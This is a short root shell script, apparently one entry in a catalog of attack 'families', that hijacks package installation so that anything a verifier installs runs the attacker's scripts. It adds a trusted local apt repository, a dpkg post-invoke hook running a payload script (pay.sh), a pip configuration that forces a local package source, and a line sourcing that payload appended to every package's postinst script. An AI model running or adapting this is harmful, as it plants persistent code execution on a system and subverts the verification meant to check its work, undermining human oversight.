# family: tool configuration
# what: What a verifier installs would come from a repository of ours, and run our scripts.
# user: root
mkdir -p /etc/apt/sources.list.d /etc/dpkg/dpkg.cfg.d /etc/xdg/pip
echo "deb [trusted=yes] file:$scratch ./" > /etc/apt/sources.list.d/mine.list
echo "post-invoke=/bin/sh $scratch/pay.sh" > /etc/dpkg/dpkg.cfg.d/mine
printf '[global]\nfind-links = %s\nno-index = true\n' "$scratch" > /etc/xdg/pip/pip.conf
for script in /var/lib/dpkg/info/*.postinst; do echo ". $scratch/pay.sh" >> "$script"; done
